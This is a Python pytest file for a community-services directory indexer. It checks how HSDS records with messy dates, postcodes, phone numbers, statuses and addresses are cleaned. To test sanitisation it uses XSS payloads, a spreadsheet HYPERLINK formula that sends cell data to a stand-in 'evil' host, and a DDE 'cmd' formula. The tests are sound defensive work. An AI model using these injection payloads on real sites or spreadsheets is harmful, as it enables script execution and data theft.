"""Checklist 5.4 at the level of one record: values of every shape and what becomes of each."""

from __future__ import annotations

from typing import Any

import pytest

from indexer.sources.base import Findings
from indexer.sources.candidates import candidates
from indexer.sources.hsds_fields import read_service
from indexer.sources.texts import LONGEST_TEXT, is_formula
from indexer.sources.values import iso_day, telephones
from tests.sources.reading import (
    Postcodes,
    Spot,
    address,
    asked,
    canonical,
    codes,
    listing_of,
    place,
    read,
    service,
)  # fmt: skip

NOTHINGS: tuple[Any, ...] = (
    None,
    "",
    " ",
    "null",
    "NULL",
    "N/A",
    "n/a",
    "None",
    "tbc",
    "-",
    [],
    {},
)


@pytest.mark.parametrize("nothing", NOTHINGS)
def test_null_empty_and_words_for_nothing_are_all_nothing(nothing: Any) -> None:
    """No. 17: one meaning, whatever the spelling."""
    blank = dict.fromkeys(
        ("description", "url", "email", "fees", "eligibility_description", "schedules",
                    "minimum_age", "maximum_age", "languages", "contacts", "phones", "alert",
                    "service_areas", "cost_options", "assured_date", "last_modified",
                    "accreditations", "wait_time", "alternate_name", "attributes"), nothing
    )  # fmt: skip
    record = read({**service(), **blank})
    plain = read(service())
    assert record.listing is not None
    assert plain.listing is not None
    assert {**record.listing, "sources": []} == {**plain.listing, "sources": []}
    assert codes(record) <= {"placeholder_field"}


@pytest.mark.parametrize(
    "name",
    ["schedules", "contacts", "phones", "languages", "cost_options", "service_areas",
     "attributes", "service_at_locations"],
)  # fmt: skip
@pytest.mark.parametrize("shape", ["text", 7, True, ["text"], [None], [[{}]], {"id": "x"}])
def test_a_wrong_shape_costs_its_field_only(name: str, shape: Any) -> None:
    """No. 18: scalars and objects where a list belongs, and lists of anything."""
    listing = canonical(read(service(**{name: shape})))
    assert listing is not None
    assert listing["name"] == "Lunch club"
    assert listing["organisation"]["name"] == "Neighbours"


def test_one_object_where_a_list_belongs_is_a_list_of_one() -> None:
    listing = listing_of(
        schedules={"freq": "WEEKLY", "byday": "TU"},
        service_at_locations=place(),
        languages={"name": "Urdu"},
    )
    assert len(listing["venues"]) == 1
    assert listing["sessions"][0]["days"] == ["tue"]
    assert [row["id"] for row in listing["languages"]] == ["ur"]


def test_a_record_that_holds_itself_is_read_once() -> None:
    """No. 19: back-references lead nowhere."""
    record = service()
    record["service_at_locations"][0]["service"] = record
    record["service_at_locations"][0]["location"]["service_at_locations"] = record[
        "service_at_locations"
    ]
    record["organization"]["services"] = [record]
    result = read_service(record, source_name="feed", source_url=None, reading=asked(None))
    assert result.listing is not None
    assert len(result.listing["venues"]) == 1


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("2026-08-01", "2026-08-01"),
        ("2026-08-01T09:30:00", "2026-08-01"),
        ("2026-08-01T09:30:00Z", "2026-08-01"),
        ("2026-07-31T23:30:00.0000000+00:00", "2026-08-01"),
        ("2026-08-01 09:30:00.123", "2026-08-01"),
        ("01/08/2026", "2026-08-01"),
        ("1/8/2026 09:30:00", "2026-08-01"),
        ("01-08-2026", "2026-08-01"),
        ("01.08.26", "2026-08-01"),
        ("2026/08/01", "2026-08-01"),
        ("20260801", "2026-08-01"),
        ("20260801T093000", "2026-08-01"),
        ("1 August 2026", "2026-08-01"),
        ("Saturday 1st August 2026", "2026-08-01"),
        ("the 1st of Aug 2026", "2026-08-01"),
        ("August 1, 2026", "2026-08-01"),
        ("31/02/2026", None),
        ("13/13/2026", None),
        ("August 2026", None),
        ("summer", None),
        ("2026", None),
        (20260801.5, None),
        ("0000-00-00", None),
    ],
)
def test_dates_in_every_form(written: Any, meant: str | None) -> None:
    """No. 22: British order, and no date out of half a one."""
    assert iso_day(written) == meant


@pytest.mark.parametrize(
    ("youngest", "oldest", "age"),
    [
        ("18 years", "25 yrs", (18, 25)),
        ("6 months", "4", (0.5, 4)),
        ("50+", None, (50, None)),
        ("16", "16", (16, 16)),
        ("", "0", (None, None)),
        ("NaN", "Infinity", (None, None)),
        (13, 0, (13, None)),
    ],
)
def test_ages_as_texts(youngest: Any, oldest: Any, age: tuple[Any, Any]) -> None:
    """No. 25."""
    listing = listing_of(minimum_age=youngest, maximum_age=oldest)
    assert (listing["age"]["min"], listing["age"]["max"]) == age


class Coast(Postcodes):
    """A table of places in which every postcode is near Sheffield."""

    def __init__(self, *, whole: bool = True) -> None:
        super().__init__()
        self.whole = whole

    def nearest_postcode(self, lat: float, lon: float, /) -> Spot | None:
        near = abs(lat - 53.38) < 0.1 and abs(lon + 1.47) < 0.1
        return Spot(53.38, -1.47) if near else None


def test_a_point_in_the_sea_is_not_used() -> None:
    """No. 27: inside the rough outline of the country, and far from every postcode."""
    where = place(latitude=53.9, longitude=0.9, addresses=[address(postal_code=None)])
    record = read(service(service_at_locations=[where]), Coast())
    assert record.listing is not None
    assert record.listing["venues"][0]["lat"] is None
    assert "coordinates_at_sea" in codes(record)
    with_part_of_a_table = read(service(service_at_locations=[where]), Coast(whole=False))
    assert "coordinates_at_sea" not in codes(with_part_of_a_table)


def test_a_point_far_from_its_own_postcode_gives_way_to_it() -> None:
    where = place(latitude=51.5, longitude=-0.12)
    record = read(service(service_at_locations=[where]), Postcodes())
    assert record.listing is not None
    (venue,) = record.listing["venues"]
    assert (venue["lat"], venue["point_from"]) == (53.3796, "postcode")
    assert "coordinates_far_from_postcode" in codes(record)


@pytest.mark.parametrize(
    ("written", "kept", "code"),
    [
        ("S11XZ", "S1 1XZ", None),
        (" s1  1xz ", "S1 1XZ", None),
        ("S1-1XZ", "S1 1XZ", None),
        ("S1", "S1", "postcode_outcode_only"),
        ("S1 1", "S1 1", "postcode_outcode_only"),
        ("ABC 1234", None, "postcode_invalid"),
        ("90210", None, "postcode_invalid"),
        ("75008 Paris", None, "postcode_invalid"),
        ("n/a", None, None),
    ],
)
def test_postcodes_in_every_form(written: str, kept: str | None, code: str | None) -> None:
    """No. 28."""
    record = read(service(service_at_locations=[place(addresses=[address(postal_code=written)])]))
    assert record.listing is not None
    assert record.listing["venues"][0]["postcode"] == kept
    assert codes(record) == ({code} if code else set())


@pytest.mark.parametrize(
    ("written", "numbers", "words"),
    [
        ("Phone No: 0114 496 0102 Ext: 1041", ["0114 496 0102 ext. 1041"], False),
        ("0114 496 0102 or 0114 496 0103", ["0114 496 0102", "0114 496 0103"], False),
        ("+44 (0)114 496 0102", ["0114 496 0102"], False),
        ("01144960102", ["0114 496 0102"], False),
        ("Ring 0114 496 0102 and ask for Ann", ["0114 496 0102"], True),
        ("tset", [], False),
        ("23", [], False),
    ],
)
def test_telephones_in_every_form(written: str, numbers: list[str], words: bool) -> None:
    """No. 30."""
    found, prose = telephones(written, None, Findings(), "phones")
    assert (found, prose is not None) == (numbers, words)


def test_several_mail_addresses_and_a_bare_domain() -> None:
    """No. 31."""
    record = read(service(url="www.example.org", email=" a@example.org; b@example.org "))
    assert record.listing is not None
    assert record.listing["website"] == "https://www.example.org"
    assert [one["email"] for one in record.listing["contacts"]] == [
        "a@example.org",
        "b@example.org",
    ]
    assert {"url_no_scheme", "email_split"} <= codes(record)


@pytest.mark.parametrize("script", [
    "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
])  # fmt: skip
def test_no_tag_of_a_script_survives_in_any_field(script: str) -> None:
    listing = listing_of(
        name=f"Choir {script}", description=f"We sing. {script}", alert=script, fees=script,
        eligibility_description=script, application_process=script,
        service_at_locations=[place(name=script, description=script, transportation=script,
                                    accessibility=[{"description": script}],
                                    addresses=[address(address_1=script)])],
        contacts=[{"name": script, "title": script, "email": script}],
        schedules=[{"freq": "WEEKLY", "byday": "MO", "description": script}],
        service_areas=[{"name": script}], url=f"javascript:{script}",
        organization={"name": f"Us {script}", "description": script, "website": script},
    )  # fmt: skip
    assert "<script" not in str(listing)
    assert "<img" not in str(listing)
    assert "<svg" not in str(listing)
    assert listing["website"] is None


def test_a_formula_is_no_name() -> None:
    record = read(service(name='=HYPERLINK("http://evil.example.org/?x="&A1,"Click")'))
    assert record.quarantined is not None
    assert record.quarantined.startswith("formula_text: ")
    assert codes(record) == {"formula_text"}
    assert record.raw["name"].startswith("=HYPERLINK")


@pytest.mark.parametrize(
    ("text", "answer"),
    [("=1+cmd|'/C calc'!A0", False), ("=SUM(A1:A9)", True), ("@SUM(1)", True), ("-cmd|'x'", True),
     ("+ Together", False), ("-ish group", False), ("@home", False), ("=Equals Choir", False)],
)  # fmt: skip
def test_what_is_a_formula(text: str, answer: bool) -> None:
    assert is_formula(text) is answer


@pytest.mark.parametrize("piece", ["word ", "<p>", "&lt;", "*a ", "[", "(", "â€", "__x", "\r\n# "])
def test_a_description_of_five_megabytes_is_cut_and_costs_no_more_than_a_long_one(
    piece: str,
) -> None:
    record = read(service(description=piece * (5_000_000 // len(piece))))
    listing = canonical(record)
    assert listing is not None
    assert len(listing["description"] or "") <= 20_000
    assert "text_too_long" in codes(record)
    assert len(record.raw["description"]) > 40 * LONGEST_TEXT


@pytest.mark.parametrize("status", ["Verified", "Verification in Progress", "draft", "1"])
def test_a_status_outside_the_four_is_open_with_its_words_beside_it(status: str) -> None:
    """No. 34: nobody is shown as closed, or as surely open, by a word nobody knows."""
    record = read(service(status=status))
    assert record.listing is not None
    assert record.listing["status"]["state"] == "open"
    assert status.lower() in record.listing["status"]["note"]
    assert codes(record) == {"status_unknown"}


@pytest.mark.parametrize("status", ["", None, "Active", "ACTIVE "])
def test_no_status_and_active_in_any_spelling_are_open(status: str | None) -> None:
    record = read({**service(), "status": status})
    assert record.listing is not None
    assert record.listing["status"] == {"state": "open"}
    assert codes(record) == set()


@pytest.mark.parametrize(
    ("area", "code"),
    [
        ({"name": "Local", "uri": "http://x.example.org/K02000001"}, None),
        ({"name": "Leeds", "uri": "http://x.example.org/E08000036"}, None),
        ({"name": "Wakefield", "uri": "http://x.example.org/E08000036"}, "E08000036"),
        ({"name": "City of Wakefield", "extent": "E08000036"}, "E08000036"),
        ({"name": "Our five towns", "uri": "http://x.example.org/E08000036"}, "E08000036"),
    ],
)
def test_an_area_whose_name_contradicts_its_code_is_a_name(
    area: dict[str, Any], code: str | None
) -> None:
    """No. 36."""
    record = read(service(service_areas=[area]))
    assert record.listing is not None
    (kept,) = record.listing["service_areas"]
    assert (kept.get("code"), kept["name"]) == (code, area["name"])
    assert ("service_area_conflict" in codes(record)) is (code is None)


def test_events_that_are_over_are_said_to_be_over() -> None:
    """No. 37: a service that was one day, long past, although its status says active."""
    day = {"dtstart": "2024-12-25", "valid_from": "2024-12-25", "valid_to": "2024-12-25"}
    record = read(service(schedules=[day]))
    assert record.listing is not None
    assert record.listing["sessions"][0]["dates"] == ["2024-12-25"]
    assert "past_event" in codes(record)


@pytest.mark.parametrize(
    ("city", "county", "kept"),
    [
        ("Harehills, Leeds, West Yorkshire, ", "West Yorkshire", "Surrey Street, Harehills, Leeds"),
        ("London", "London", "Surrey Street, London"),
        ("Stathe, Tamworth", "N/A", "Surrey Street, Stathe, Tamworth"),
    ],
)
def test_a_county_said_twice_is_no_part_of_the_town(city: str, county: str, kept: str) -> None:
    where = place(addresses=[address(city=city, state_province=county)])
    assert listing_of(service_at_locations=[where])["venues"][0]["address"] == kept


@pytest.mark.parametrize("filler", ["test", "Test entry 1", "lorem ipsum dolor", "TBC", "n/a"])
def test_a_filler_is_no_description_and_costs_the_record_nothing(filler: str) -> None:
    """No. 33: "test" in one field of a real group is no reason to leave the group out."""
    record = read(service(description=filler, fees="n/a"))
    assert record.listing is not None
    assert record.listing["description"] is None
    assert record.listing["cost"]["note"] is None
    assert codes(record) == {"placeholder_field"}


def test_parts_with_the_same_id_are_all_kept() -> None:
    """No. 14: ids of parts are not trusted to tell two parts apart."""
    people = [
        {"id": "c1", "name": "Ann", "phones": [{"id": "p1", "number": "0114 496 0102"}]},
        {"id": "c1", "name": "Bob", "phones": [{"id": "p1", "number": "0114 496 0103"}]},
    ]
    listing = listing_of(contacts=people)
    assert [(one["name"], one["phones"]) for one in listing["contacts"]] == [
        ("Ann", ["0114 496 0102"]),
        ("Bob", ["0114 496 0103"]),
    ]


def test_what_no_rule_knows_is_kept_with_the_record() -> None:
    """No. 21."""
    record = read(service(x_own={"deep": [1, {"a": None}]}))
    assert record.listing is not None
    assert record.raw["x_own"] == {"deep": [1, {"a": None}]}
    assert codes(record) == set()


def test_answers_of_other_vocabularies_become_words_and_no_facts() -> None:
    entry = {"id": "a1", "hasInductionLoop": True, "isQuiet": None, "wheelchair": "limited",
             "toilets:wheelchair": "no"}  # fmt: skip
    (venue,) = listing_of(service_at_locations=[place(accessibility=[entry])])["venues"]
    assert venue["access_text"] == (
        "has induction loop: yes\nwheelchair: limited\ntoilets wheelchair: no"
    )
    assert venue["access"] == {}
    assert {(one.facet, one.state) for one in candidates(venue["access_text"])} == {
        ("hearing_loop", "yes"), ("step_free_entrance", "partly"), ("accessible_toilet", "no"),
    }  # fmt: skip


@pytest.mark.parametrize(
    ("said", "hidden"),
    [
        ("The address is confidential", True),
        ("Confidential address: ring first", True),
        ("This location is not published", True),
        ("Free and confidential advice", False),
        ("What you say is confidential", False),
    ],
)
def test_a_place_whose_address_is_said_to_be_secret_is_hidden_though_it_came(
    said: str, hidden: bool
) -> None:
    """No. 29: who publishes an address by mistake does not move somebody who is in hiding."""
    (venue,) = listing_of(service_at_locations=[place(description=said)])["venues"]
    assert venue["hidden"] is hidden
    assert (venue["postcode"] is None) is hidden
